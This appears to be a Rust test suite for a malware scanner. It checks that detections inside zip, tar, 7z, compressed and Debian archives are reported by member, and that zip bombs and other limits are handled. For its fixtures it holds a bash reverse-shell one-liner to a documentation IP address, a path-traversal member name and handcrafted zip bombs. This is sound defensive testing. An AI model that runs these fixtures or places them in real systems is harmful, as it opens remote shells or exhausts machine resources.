//! Archives and compressed files: members are scanned like files, named in what is reported,
//! within limits no bomb breaks; the archives are made here as each format's tools make them.

mod common;

use std::io::{Read, Write};

use common::{Sandbox, Scan, eicar, encoded_dropper_js, text};
use serde_json::Value;
use zip::write::SimpleFileOptions;

/// A zip of `members` (name, content), each compressed with `method`.
fn zip_of(members: &[(&str, &[u8])], method: zip::CompressionMethod) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(method);
    for (name, content) in members {
        writer.start_file(*name, options).unwrap();
        writer.write_all(content).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// A tar of regular files.
fn tar_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let entries: Vec<common::TarEntry> = members
        .iter()
        .map(|(name, content)| (name.to_string(), tar::EntryType::Regular, content.to_vec()))
        .collect();
    common::raw_tar(&entries)
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(data).unwrap();
    encoder.finish().unwrap()
}

fn bzip2(data: &[u8]) -> Vec<u8> {
    let mut encoder = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::fast());
    encoder.write_all(data).unwrap();
    encoder.finish().unwrap()
}

fn xz(data: &[u8]) -> Vec<u8> {
    let options = lzma_rust2::XzOptions::with_preset(1);
    let mut encoder = lzma_rust2::XzWriter::new(Vec::new(), options).unwrap();
    encoder.write_all(data).unwrap();
    encoder.finish().unwrap()
}

/// A 7z of `members`, in one solid block or a block each, encrypted (AES) with `password`.
fn seven_z(members: &[(&str, &[u8])], solid: bool, password: Option<&str>) -> Vec<u8> {
    use sevenz_rust2::{ArchiveEntry, ArchiveWriter, EncoderMethod, SourceReader};
    let mut writer = ArchiveWriter::new(std::io::Cursor::new(Vec::new())).unwrap();
    if let Some(password) = password {
        writer.set_content_methods(vec![
            sevenz_rust2::encoder_options::AesEncoderOptions::new(password.into()).into(),
            EncoderMethod::LZMA2.into(),
        ]);
    }
    if solid {
        let entries = members
            .iter()
            .map(|(name, _)| ArchiveEntry::new_file(name))
            .collect();
        let readers = members
            .iter()
            .map(|(_, data)| SourceReader::new(*data))
            .collect();
        writer.push_archive_entries(entries, readers).unwrap();
    } else {
        for (name, data) in members {
            writer
                .push_archive_entry(ArchiveEntry::new_file(name), Some(*data))
                .unwrap();
        }
    }
    writer.finish().unwrap().into_inner()
}

fn zstd(data: &[u8]) -> Vec<u8> {
    zstd::encode_all(data, 3).unwrap()
}

/// `(member chain, rule)` of every detection of `path`, sorted.
fn found_in(scan: &Scan, path: &std::path::Path) -> Vec<(Vec<String>, String)> {
    let mut found: Vec<_> = scan
        .of_type("detection")
        .iter()
        .filter(|r| r["path"] == text(path))
        .map(|r| (members(r), r["rule"].as_str().unwrap().to_string()))
        .collect();
    found.sort();
    found
}

fn members(record: &Value) -> Vec<String> {
    record["member"]
        .as_array()
        .map(|names| {
            names
                .iter()
                .map(|n| n.as_str().unwrap().to_string())
                .collect()
        })
        .unwrap_or_default()
}

/// `(member chain, limit, key)` of every limit record of `path`.
fn limits_of(scan: &Scan, path: &std::path::Path) -> Vec<(Vec<String>, String, Value)> {
    scan.of_type("limit")
        .iter()
        .filter(|r| r["path"] == text(path))
        .map(|r| {
            (
                members(r),
                r["limit"].as_str().unwrap().to_string(),
                r["key"].clone(),
            )
        })
        .collect()
}

const EICAR_RULE: &str = "eicar.EICAR_Test_File";
const PLUGIN_RULE: &str = "obfuscated-script";
const SHELL_RULE: &str = "reverse_shells.ReverseShell_DevTcp";
/// A bash reverse shell, which a default rule detects.
const REVERSE_SHELL: &[u8] = b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n";

fn strings(names: &[&str]) -> Vec<String> {
    names.iter().map(|n| n.to_string()).collect()
}

#[test]
fn eicar_a_rule_sample_and_a_plugin_sample_are_found_inside_every_format_by_member() {
    let sandbox = Sandbox::new();
    let (eicar, dropper) = (eicar(), encoded_dropper_js());
    let pair: [(&str, &[u8]); 4] = [
        ("docs/readme.txt", b"nothing to see"),
        ("bin/eicar.com", &eicar),
        ("scripts/connect.sh", REVERSE_SHELL),
        ("web/loader.js", dropper.as_bytes()),
    ];
    let tar = tar_of(&pair);
    let mut cases = vec![
        ("a.tar", tar.clone(), vec![]),
        ("a.tar.gz", gzip(&tar), vec!["a.tar"]),
        ("a.tgz", gzip(&tar), vec!["a.tar"]),
        ("a.tar.bz2", bzip2(&tar), vec!["a.tar"]),
        ("a.tar.xz", xz(&tar), vec!["a.tar"]),
        ("a.tar.zst", zstd(&tar), vec!["a.tar"]),
        // By content, not by name.
        ("renamed.dat", gzip(&tar), vec!["renamed.dat"]),
    ];
    cases.push(("solid.7z", seven_z(&pair, true, None), vec![]));
    // ZIP64 headers, as zip tools write them for large members.
    let mut zip64 = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, content) in &pair {
        zip64
            .start_file(*name, SimpleFileOptions::default().large_file(true))
            .unwrap();
        zip64.write_all(content).unwrap();
    }
    cases.push(("zip64.zip", zip64.finish().unwrap().into_inner(), vec![]));
    cases.push(("blocks.7z", seven_z(&pair, false, None), vec![]));
    for (method, name) in [
        (zip::CompressionMethod::Stored, "stored.zip"),
        (zip::CompressionMethod::Deflated, "deflated.zip"),
        (zip::CompressionMethod::Bzip2, "bzip2.zip"),
        (zip::CompressionMethod::Xz, "xz.zip"),
        (zip::CompressionMethod::Zstd, "zstd.zip"),
    ] {
        cases.push((name, zip_of(&pair, method), vec![]));
    }
    let paths: Vec<_> = cases
        .iter()
        .map(|(name, bytes, _)| sandbox.write(name, bytes))
        .collect();
    let scan = sandbox.scan(&["custom", text(&sandbox.corpus(""))]);
    assert_eq!(scan.code, 1, "{}", scan.stderr);
    for ((name, _, outer), path) in cases.iter().zip(&paths) {
        let chain = |inner: &str| {
            let mut chain = strings(outer);
            chain.push(inner.into());
            chain
        };
        // Only what members gave: a tar or a stored zip also match as bytes, for the rules
        // whose text is not compressed in them.
        let from_members: Vec<_> = found_in(&scan, path)
            .into_iter()
            .filter(|(chain, _)| !chain.is_empty())
            .collect();
        assert_eq!(
            from_members,
            vec![
                (chain("bin/eicar.com"), EICAR_RULE.into()),
                (chain("scripts/connect.sh"), SHELL_RULE.into()),
                (chain("web/loader.js"), PLUGIN_RULE.into()),
            ],
            "{name}: {:?}",
            scan.records
        );
    }
    assert_eq!(scan.of_type("limit"), Vec::<&Value>::new());
    let summary = scan.summary();
    // Four members each (a compressed tar is read as it is decoded, not as a member).
    assert_eq!(summary["members_scanned"], 15 * 4);
    assert_eq!(summary["files_scanned"], 15);
}

#[test]
fn members_nested_three_deep_and_inside_an_office_document_are_named_outer_to_inner() {
    let sandbox = Sandbox::new();
    let eicar = eicar();
    let inner = zip_of(
        &[("deep/eicar.com", &eicar)],
        zip::CompressionMethod::Deflated,
    );
    let middle = gzip(&tar_of(&[("inner.zip", &inner)]));
    let outer = zip_of(
        &[("middle.tar.gz", &middle)],
        zip::CompressionMethod::Stored,
    );
    let nested = sandbox.write("nested.zip", outer);
    let document = zip_of(
        &[
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", b"<w:document/>"),
            ("word/embeddings/oleObject1.bin", &eicar),
        ],
        zip::CompressionMethod::Deflated,
    );
    let docx = sandbox.write("report.docx", document);
    let scan = sandbox.scan(&["custom", text(&sandbox.corpus(""))]);
    assert_eq!(
        found_in(&scan, &nested),
        vec![(
            strings(&["middle.tar.gz", "middle.tar", "inner.zip", "deep/eicar.com"]),
            EICAR_RULE.into()
        )]
    );
    assert_eq!(
        found_in(&scan, &docx),
        vec![(
            strings(&["word/embeddings/oleObject1.bin"]),
            EICAR_RULE.into()
        )]
    );
    // Text output: one line per detection, `!` between names.
    let output = sandbox.run(&["scan", "custom", text(&nested)]);
    let stdout = String::from_utf8(output.stdout).unwrap();
    assert!(
        stdout.contains(&format!(
            "DETECTED {}!middle.tar.gz!middle.tar!inner.zip!deep/eicar.com: ",
            text(&nested)
        )),
        "{stdout}"
    );
}

#[test]
fn odd_member_names_are_reported_exactly_and_never_extracted_anywhere() {
    let sandbox = Sandbox::new();
    let eicar = eicar();
    let mut not_utf8 = tar_of(&[("placeholder-name", &eicar)]);
    not_utf8[..16].copy_from_slice(b"bad\xff\xfename!.com\0\0");
    // The checksum covers the name: make the header valid again.
    let mut header = tar::Header::new_old();
    header.as_mut_bytes().copy_from_slice(&not_utf8[..512]);
    header.set_cksum();
    not_utf8[..512].copy_from_slice(header.as_bytes());
    let odd = sandbox.write("odd.tar", not_utf8);
    let escaping = sandbox.write(
        "escape.zip",
        zip_of(
            &[("../../escaped!.com", &eicar)],
            zip::CompressionMethod::Deflated,
        ),
    );
    let before = listing(&sandbox.corpus(""));
    let scan = sandbox.scan(&["custom", text(&sandbox.corpus(""))]);
    let record = scan
        .of_type("detection")
        .into_iter()
        .find(|r| r["path"] == text(&odd))
        .expect("found in the member whose name is not UTF-8");
    assert_eq!(record["member_hex"][0], "626164fffe6e616d65212e636f6d");
    assert_eq!(
        found_in(&scan, &escaping),
        vec![(strings(&["../../escaped!.com"]), EICAR_RULE.into())]
    );
    assert_eq!(listing(&sandbox.corpus("")), before, "nothing was written");
    assert!(
        !listing(sandbox.root())
            .iter()
            .any(|path| path.ends_with("escaped!.com")),
        "nothing was written anywhere in the sandbox"
    );
    let output = sandbox.run(&["scan", "custom", text(&escaping)]);
    let stdout = String::from_utf8(output.stdout).unwrap();
    assert!(
        stdout.contains(&format!("{}!../../escaped\\!.com: ", text(&escaping))),
        "`!` in a name is escaped: {stdout}"
    );
}

/// Every path under `root`, sorted.
fn listing(root: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut paths: Vec<_> = ignore::WalkBuilder::new(root)
        .standard_filters(false)
        .build()
        .map(|entry| entry.unwrap().into_path())
        .collect();
    paths.sort();
    paths
}

#[test]
fn an_encrypted_member_is_a_limit_record_and_a_detection_when_the_administrator_asks() {
    let sandbox = Sandbox::new();
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    use zip::unstable::write::FileOptionsExt;
    let options = SimpleFileOptions::default()
        .with_deprecated_encryption(b"infected")
        .unwrap();
    writer.start_file("payload.exe", options).unwrap();
    writer.write_all(&eicar()).unwrap();
    let locked = sandbox.write("locked.zip", writer.finish().unwrap().into_inner());
    let scan = sandbox.scan(&["custom", text(&locked)]);
    assert_eq!(
        scan.code, 0,
        "a limit alone is no threat: {:?}",
        scan.records
    );
    assert_eq!(
        limits_of(&scan, &locked),
        vec![(
            strings(&["payload.exe"]),
            "encrypted".into(),
            "archives.alert_encrypted".into()
        )]
    );
    sandbox.configure("[archives]\nalert_encrypted = true\n");
    let scan = sandbox.scan(&["custom", text(&locked)]);
    assert_eq!(scan.code, 1);
    let record = &scan.of_type("detection")[0];
    assert_eq!(record["threat"], "Heuristics:Archive/Encrypted");
    assert_eq!(members(record), strings(&["payload.exe"]));
}

/// An xz stream whose block header asks for a 1 GiB dictionary (the header's CRC made valid).
fn xz_with_huge_dictionary(data: &[u8]) -> Vec<u8> {
    let mut stream = xz(data);
    let header = 12; // stream header
    let size = (stream[header] as usize + 1) * 4;
    // Flags, then the optional compressed and uncompressed sizes (variable-length integers),
    // then the first filter: its id (0x21, LZMA2), its properties' size (1), the dictionary.
    let flags = stream[header + 1];
    let mut at = header + 2;
    for present in [flags & 0x40 != 0, flags & 0x80 != 0] {
        if present {
            while stream[at] & 0x80 != 0 {
                at += 1;
            }
            at += 1;
        }
    }
    assert_eq!(&stream[at..at + 2], [0x21, 0x01], "an LZMA2 filter");
    stream[at + 2] = 36; // 2 << (36 / 2 + 11) = 1 GiB
    let crc = crc32fast::hash(&stream[header..header + size - 4]);
    stream[header + size - 4..header + size].copy_from_slice(&crc.to_le_bytes());
    stream
}

/// Bombs, each stopped by its limit with the right record; the scan goes on to the next file.
#[test]
fn bombs_end_within_their_limits_and_the_scan_goes_on() {
    let sandbox = Sandbox::new();
    let eicar = eicar();
    // 42.zip style: zips of zips, deeper than the depth limit.
    let mut nested = zip_of(&[("eicar.com", &eicar)], zip::CompressionMethod::Deflated);
    for level in 0..6 {
        nested = zip_of(
            &[(&format!("level{level}.zip"), &nested)],
            zip::CompressionMethod::Deflated,
        );
    }
    let deep = sandbox.write("deep.zip", nested);
    // 8 MiB of zeros, over a 4 MiB member limit, and over a ratio of 100.
    let zeros = sandbox.write("zeros.gz", gzip(&vec![0u8; 8 << 20]));
    let huge_dictionary = sandbox.write("dictionary.xz", xz_with_huge_dictionary(&eicar));
    // A million empty tar entries, as 1000 copies of a gzip member of 1000 entries.
    let thousand = gzip(&tar_of(&vec![("e", &b""[..]); 1000])[..1000 * 512]);
    let million = sandbox.write("million.tar.gz", thousand.repeat(1000));
    // A clean file after them all, and EICAR beside: the scan goes on.
    let plain = sandbox.write("zz-eicar.com", &eicar);
    sandbox.configure(
        "[archives]\nmax_depth = 4\nmax_member_size = 4194304\nmax_decoder_memory = 16777216\n",
    );
    let scan = sandbox.scan(&["custom", text(&sandbox.corpus(""))]);
    assert_eq!(scan.code, 1, "{}", scan.stderr);
    let limit = |path| {
        limits_of(&scan, path)
            .into_iter()
            .map(|(_, limit, _)| limit)
            .collect::<Vec<_>>()
    };
    assert_eq!(limit(&deep), ["max_depth"]);
    assert_eq!(limit(&zeros), ["max_member_size"]);
    assert_eq!(
        limit(&huge_dictionary),
        ["max_decoder_memory"],
        "{:?}",
        scan.of_type("limit")
    );
    assert_eq!(limit(&million), ["max_members"]);
    assert_eq!(
        limits_of(&scan, &deep)[0].0,
        strings(&["level5.zip", "level4.zip", "level3.zip", "level2.zip"]),
        "the member where nesting stopped"
    );
    assert_eq!(found_in(&scan, &plain), vec![(vec![], EICAR_RULE.into())]);
    assert_eq!(scan.summary()["limits"], 4);

    // The time limit: 64 MiB of zeros take longer than a millisecond to decode.
    let slow = sandbox.write("slow.gz", gzip(&vec![0u8; 64 << 20]));
    sandbox.configure("[archives]\nmax_time_ms = 1\n");
    let scan = sandbox.scan(&["custom", text(&slow)]);
    assert_eq!(limit_names(&scan), ["max_time_ms"]);

    // The ratio limit, and alert_on_limit making limits detections.
    sandbox.configure("[archives]\nmax_ratio = 100\nalert_on_limit = true\n");
    let scan = sandbox.scan(&["custom", text(&zeros)]);
    assert_eq!(limit_names(&scan), ["max_ratio"]);
    assert_eq!(
        scan.of_type("detection")[0]["threat"],
        "Heuristics:Archive/LimitExceeded"
    );
    assert_eq!(scan.of_type("detection")[0]["rule"], "archives.max_ratio");
}

fn limit_names(scan: &Scan) -> Vec<String> {
    scan.of_type("limit")
        .iter()
        .map(|r| r["limit"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn truncated_and_corrupted_archives_keep_what_was_found_and_say_they_are_damaged() {
    let sandbox = Sandbox::new();
    let eicar = eicar();
    // Incompressible, so the decoders' blocks end before the cut.
    let filler = vigil_sdk::samples::random_bytes(400_000, 5);
    let tar = tar_of(&[("first.com", &eicar), ("second.bin", &filler)]);
    let cases = [
        ("t.tar", tar.clone()),
        ("t.tar.gz", gzip(&tar)),
        ("t.tar.bz2", bzip2(&tar)),
        ("t.tar.xz", xz(&tar)),
        ("t.tar.zst", zstd(&tar)),
        (
            "t.zip",
            zip_of(
                &[("first.com", &eicar), ("second.bin", &filler)],
                zip::CompressionMethod::Deflated,
            ),
        ),
        (
            "t.7z",
            seven_z(
                &[("first.com", &eicar), ("second.bin", &filler)],
                false,
                None,
            ),
        ),
        (
            "t.a",
            ar_of(&[("first.com", &eicar), ("second.bin", &filler)], false),
        ),
    ];
    for (name, bytes) in &cases {
        let cut = sandbox.write(&format!("cut-{name}"), &bytes[..bytes.len() * 3 / 4]);
        let mut flipped = bytes.clone();
        let middle = flipped.len() * 3 / 4;
        for byte in &mut flipped[middle..middle + 64] {
            *byte ^= 0x5a;
        }
        let corrupt = sandbox.write(&format!("corrupt-{name}"), flipped);
        let scan = sandbox.scan(&["custom", text(&cut), text(&corrupt)]);
        assert!(matches!(scan.code, 0 | 1), "{name}: {}", scan.stderr);
        for path in [&cut, &corrupt] {
            let limits = limits_of(&scan, path);
            assert!(
                limits.iter().all(|(_, limit, _)| limit == "damaged"),
                "{name}: {limits:?}"
            );
        }
        // The truncated tar-based streams and the ar still give their first member (a zip and
        // a 7z are read from their directory at the end, which the cut removed).
        if !name.ends_with(".zip") && !name.ends_with(".7z") {
            assert_eq!(
                found_in(&scan, &cut).len(),
                1,
                "{name}: EICAR before the cut: {:?}",
                scan.records
            );
        }
    }
}

/// One entry: its name, stored bytes, the uncompressed size its headers declare, and (for
/// overlapping archives) the entry whose local header it points to instead of its own.
struct Entry<'a> {
    name: &'a str,
    data: &'a [u8],
    declared: u64,
    shares: Option<usize>,
}

fn entry<'a>(name: &'a str, data: &'a [u8]) -> Entry<'a> {
    Entry {
        name,
        data,
        declared: data.len() as u64,
        shares: None,
    }
}

/// A ZIP archive written byte by byte (stored method, no CRCs); sizes over 32 bits get a ZIP64
/// extra field. Bombs are made by their headers: what a real bomb's central directory declares
/// (sizes, shared data) is what these declare.
fn raw_zip(entries: &[Entry]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut offsets = Vec::new();
    for e in entries {
        offsets.push(out.len() as u32);
        if e.shares.is_some() {
            continue;
        }
        out.extend_from_slice(b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0");
        out.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
        out.extend_from_slice(&(e.declared.min(0xFFFF_FFFF) as u32).to_le_bytes());
        out.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
        out.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(e.name.as_bytes());
        out.extend_from_slice(e.data);
    }
    let directory = out.len() as u32;
    for (index, e) in entries.iter().enumerate() {
        let zip64 = e.declared >= 0xFFFF_FFFF;
        let extra: Vec<u8> = if zip64 {
            [
                &1u16.to_le_bytes()[..],
                &8u16.to_le_bytes(),
                &e.declared.to_le_bytes(),
            ]
            .concat()
        } else {
            Vec::new()
        };
        out.extend_from_slice(b"PK\x01\x02\x14\0\x14\0\0\0\0\0\0\0\0\0\0\0\0\0");
        out.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
        out.extend_from_slice(
            &(if zip64 {
                0xFFFF_FFFF
            } else {
                e.declared as u32
            })
            .to_le_bytes(),
        );
        out.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
        out.extend_from_slice(&(extra.len() as u16).to_le_bytes());
        out.extend_from_slice(&[0; 10]); // comment length, disk, internal and external attributes
        out.extend_from_slice(&offsets[e.shares.unwrap_or(index)].to_le_bytes());
        out.extend_from_slice(e.name.as_bytes());
        out.extend_from_slice(&extra);
    }
    let size = out.len() as u32 - directory;
    out.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&size.to_le_bytes());
    out.extend_from_slice(&directory.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

/// ZIP bombs are decided by the extractor from the central directory, before anything is
/// decompressed (the checks and threat names of the former zip-bomb plugin).
#[test]
fn zip_bombs_are_detections_from_the_central_directory_and_are_not_extracted() {
    let sandbox = Sandbox::new();
    let kernel = vec![0u8; 1000];
    let mut entries = vec![entry("0", &kernel)];
    for _ in 0..50 {
        entries.push(Entry {
            name: "n",
            data: &kernel,
            declared: 1000,
            shares: Some(0),
        });
    }
    let overlap = sandbox.write("overlap.zip", raw_zip(&entries));
    let stream = vec![0u8; 2000];
    let ten = |declared| -> Vec<u8> {
        let names = ["a", "b", "c", "d", "e", "f", "g", "h", "i", "j"];
        raw_zip(&names.map(|name| Entry {
            name,
            data: &stream,
            declared,
            shares: None,
        }))
    };
    // Ten 200 MiB entries from 20 KB of data; ten 5 GiB entries, sizes in ZIP64 extra fields.
    let ratio = sandbox.write("bomb.zip", ten(200 << 20));
    let ratio64 = sandbox.write("bomb64.zip", ten(5 << 30));
    // Inside another archive (a parser's test fixtures in a source package, say), a bomb is
    // not extracted either, and is a limit record.
    let wrapped = sandbox.write(
        "wrapped.tar",
        tar_of(&[("inner/overlap.zip", &raw_zip(&entries))]),
    );
    let scan = sandbox.scan(&["custom", text(&sandbox.corpus(""))]);
    let threats = |path| -> Vec<(Vec<String>, String)> {
        scan.of_type("detection")
            .iter()
            .filter(|r| r["path"] == text(path))
            .map(|r| (members(r), r["threat"].as_str().unwrap().to_string()))
            .collect()
    };
    assert_eq!(
        threats(&overlap),
        [(vec![], "Bomb:Multi/Zip.Overlap".into())]
    );
    assert_eq!(threats(&ratio), [(vec![], "Bomb:Multi/Zip.Ratio".into())]);
    assert_eq!(threats(&ratio64), [(vec![], "Bomb:Multi/Zip.Ratio".into())]);
    assert_eq!(threats(&wrapped), []);
    let limit = &limits_of(&scan, &wrapped)[0];
    assert_eq!(
        (&limit.0, &limit.1),
        (&strings(&["inner/overlap.zip"]), &"bomb".to_string())
    );
    let record = scan
        .of_type("detection")
        .into_iter()
        .find(|r| r["path"] == text(&overlap))
        .unwrap();
    assert_eq!(
        (
            &record["detector"],
            &record["rule"],
            &record["severity"],
            &record["offset"]
        ),
        (
            &"archive".into(),
            &"zip-bomb".into(),
            &"high".into(),
            &0.into()
        )
    );
    // Nothing of them was extracted.
    assert_eq!(
        scan.summary()["members_scanned"],
        1,
        "only wrapped.tar's member"
    );
}

#[test]
fn ordinary_and_broken_zips_are_no_bombs() {
    let sandbox = Sandbox::new();
    let text_data = b"hello world\n".repeat(100);
    sandbox.write(
        "plain.zip",
        raw_zip(&[
            entry("a.txt", &text_data),
            entry("b.txt", b"second"),
            entry("dir/", b""),
        ]),
    );
    // Highly compressible but real: 100 MiB from 200 KB is 500:1, under the 1 GiB floor anyway.
    let data = vec![1u8; 200_000];
    sandbox.write(
        "logs.zip",
        raw_zip(&[Entry {
            name: "log",
            data: &data,
            declared: 100 << 20,
            shares: None,
        }]),
    );
    // Truncated archives (no end record) and garbage after the magic.
    let archive = raw_zip(&[entry("a.txt", &text_data)]);
    for cut in [4, 30, archive.len() / 2, archive.len() - 1] {
        sandbox.write(&format!("cut-{cut}.zip"), &archive[..cut]);
    }
    let scan = sandbox.scan(&["custom", text(&sandbox.corpus(""))]);
    assert_eq!(scan.of_type("detection"), Vec::<&Value>::new());
    assert_eq!(scan.code, 0, "{}", scan.stderr);
}

/// Peak resident memory of a scan of every kind of bomb at once, with the default limits and two
/// threads: at most 256 MiB, asserted on the real binary (`wait4` gives the child's peak).
#[test]
// The child is reaped by `wait4` (which std's `wait` cannot replace: it gives no usage).
#[allow(clippy::zombie_processes)]
fn a_scan_of_bombs_with_default_limits_stays_under_256_mib() {
    let sandbox = Sandbox::new();
    let eicar = eicar();
    // 300 MiB of zeros in each of two gzips (scanned by the two threads at once), 200 MiB of
    // zeros in a zip in a zip, 512 MiB of zeros in a tar.gz member (read as it is decoded).
    let zeros = {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        std::io::copy(&mut std::io::repeat(0).take(300 << 20), &mut encoder).unwrap();
        encoder.finish().unwrap()
    };
    sandbox.write("zeros-1.gz", &zeros);
    sandbox.write("zeros-2.gz", &zeros);
    let mut inner = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let fast = SimpleFileOptions::default().compression_level(Some(1));
    inner.start_file("zeros.bin", fast).unwrap();
    std::io::copy(&mut std::io::repeat(0).take(200 << 20), &mut inner).unwrap();
    let inner = inner.finish().unwrap().into_inner();
    sandbox.write(
        "nested.zip",
        zip_of(&[("inner.zip", &inner)], zip::CompressionMethod::Stored),
    );
    let big_tar = {
        let encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        let mut builder = tar::Builder::new(encoder);
        let mut header = tar::Header::new_gnu();
        header.set_size(512 << 20);
        header.set_mode(0o644);
        header.set_cksum();
        builder
            .append_data(&mut header, "zeros.bin", std::io::repeat(0).take(512 << 20))
            .unwrap();
        builder.into_inner().unwrap().finish().unwrap()
    };
    sandbox.write("big.tar.gz", big_tar);
    sandbox.write("dictionary.xz", xz_with_huge_dictionary(&eicar));
    let thousand = gzip(&tar_of(&vec![("e", &b""[..]); 1000])[..1000 * 512]);
    sandbox.write("million.tar.gz", thousand.repeat(1000));
    let mut nested = zip_of(&[("eicar.com", &eicar)], zip::CompressionMethod::Deflated);
    for level in 0..20 {
        nested = zip_of(
            &[(&format!("level{level}.zip"), &nested)],
            zip::CompressionMethod::Deflated,
        );
    }
    sandbox.write("deep.zip", nested);

    let mut command = sandbox.vigil();
    command
        .args(["scan", "custom", text(&sandbox.corpus(""))])
        .args(["--threads", "2", "--format", "jsonl", "--no-cache"])
        .stdout(std::process::Stdio::piped());
    let mut child = command.spawn().unwrap();
    let mut stdout = String::new();
    std::io::Read::read_to_string(child.stdout.as_mut().unwrap(), &mut stdout).unwrap();
    let (mut status, mut usage) = (0, unsafe { std::mem::zeroed::<libc::rusage>() });
    // SAFETY: waits for our own child, with valid pointers; std's Child is not waited again.
    let pid = unsafe { libc::wait4(child.id() as i32, &mut status, 0, &mut usage) };
    assert_eq!(pid, child.id() as i32);
    let peak_mib = usage.ru_maxrss / 1024;
    assert!(
        libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0,
        "status {status}: {stdout}"
    );
    let limits: Vec<Value> = stdout
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap())
        .filter(|r| r["type"] == "limit")
        .collect();
    let mut names: Vec<&str> = limits
        .iter()
        .map(|r| r["limit"].as_str().unwrap())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            "max_decoder_memory",
            "max_depth",
            "max_member_size",
            "max_member_size",
            "max_member_size",
            "max_member_size",
            "max_members",
            "max_total_size"
        ],
        "{limits:?}"
    );
    eprintln!("peak RSS of the scan: {peak_mib} MiB");
    assert!(peak_mib <= 256, "peak RSS {peak_mib} MiB");
}

/// An ar archive as `ar` and `dpkg-deb` write it: members padded to even sizes; with
/// `gnu_names`, names in a `//` table.
fn ar_of(members: &[(&str, &[u8])], gnu_names: bool) -> Vec<u8> {
    let header = |name: &str, size: usize| {
        format!(
            "{name:<16}{:<12}{:<6}{:<6}{:<8}{size:<10}`\n",
            0, 0, 0, "100644"
        )
        .into_bytes()
    };
    let mut out = b"!<arch>\n".to_vec();
    let mut table = Vec::new();
    let mut names = Vec::new();
    for (name, _) in members {
        if gnu_names {
            names.push(format!("/{}", table.len()));
            table.extend_from_slice(format!("{name}/\n").as_bytes());
        } else {
            names.push(name.to_string());
        }
    }
    if gnu_names {
        out.extend(header("//", table.len()));
        out.extend(&table);
        if table.len() % 2 == 1 {
            out.push(b'\n');
        }
    }
    for ((_, content), name) in members.iter().zip(&names) {
        out.extend(header(name, content.len()));
        out.extend_from_slice(content);
        if content.len() % 2 == 1 {
            out.push(b'\n');
        }
    }
    out
}

#[test]
fn a_debian_package_is_read_through_ar_and_its_compressed_tars() {
    let sandbox = Sandbox::new();
    let eicar = eicar();
    let control = tar_of(&[("./control", b"Package: demo\n")]);
    let data = tar_of(&[("./usr/share/demo/eicar.txt", &eicar)]);
    let deb = ar_of(
        &[
            ("debian-binary", b"2.0\n"),
            ("control.tar.xz", &xz(&control)),
            ("data.tar.zst", &zstd(&data)),
        ],
        false,
    );
    let deb = sandbox.write("demo_1.0_all.deb", deb);
    let library = ar_of(
        &[("a-rather-long-object-name.o", &eicar), ("b.o", b"\x7fELF")],
        true,
    );
    let library = sandbox.write("libdemo.a", library);
    let scan = sandbox.scan(&["custom", text(&sandbox.corpus(""))]);
    assert_eq!(
        found_in(&scan, &deb),
        vec![(
            strings(&["data.tar.zst", "data.tar", "./usr/share/demo/eicar.txt"]),
            EICAR_RULE.into()
        )]
    );
    assert_eq!(
        found_in(&scan, &library),
        vec![(strings(&["a-rather-long-object-name.o"]), EICAR_RULE.into())]
    );
    assert_eq!(scan.of_type("limit"), Vec::<&Value>::new());
}

#[test]
fn a_rescan_from_the_cache_still_names_the_member_and_quarantine_moves_the_file_on_disk() {
    let sandbox = Sandbox::new();
    let eicar = eicar();
    let archive = sandbox.write(
        "bundle.tar.gz",
        gzip(&tar_of(&[
            ("readme.txt", b"hello"),
            ("tools/eicar.com", &eicar),
        ])),
    );
    let expected = vec![(
        strings(&["bundle.tar", "tools/eicar.com"]),
        EICAR_RULE.into(),
    )];
    let first = sandbox.scan(&["custom", text(&archive)]);
    assert_eq!(found_in(&first, &archive), expected);
    let second = sandbox.scan(&["custom", text(&archive)]);
    let summary = second.summary();
    let hits =
        summary["cache_hits"].as_u64().unwrap() + summary["file_hash_hits"].as_u64().unwrap();
    assert_eq!(hits, 1, "{:?}", second.records);
    assert_eq!(found_in(&second, &archive), expected, "from the cache");
    let moved = sandbox.scan(&["custom", text(&archive), "--action", "quarantine"]);
    assert_eq!(moved.of_type("quarantined").len(), 1, "{:?}", moved.records);
    assert!(
        !archive.exists(),
        "the archive on disk was moved into the vault"
    );
}

#[test]
fn seven_z_archives_encrypted_or_with_a_member_over_the_limit_end_with_their_records() {
    let sandbox = Sandbox::new();
    let eicar = eicar();
    let locked = sandbox.write(
        "locked.7z",
        seven_z(&[("payload.exe", &eicar)], false, Some("infected")),
    );
    // A solid block: 8 MiB of random bytes (over a 4 MiB member limit), then EICAR in the same
    // block.
    let zeros = vigil_sdk::samples::random_bytes(8 << 20, 3);
    let solid = sandbox.write(
        "solid.7z",
        seven_z(&[("zeros.bin", &zeros), ("after.com", &eicar)], true, None),
    );
    let separate = sandbox.write(
        "separate.7z",
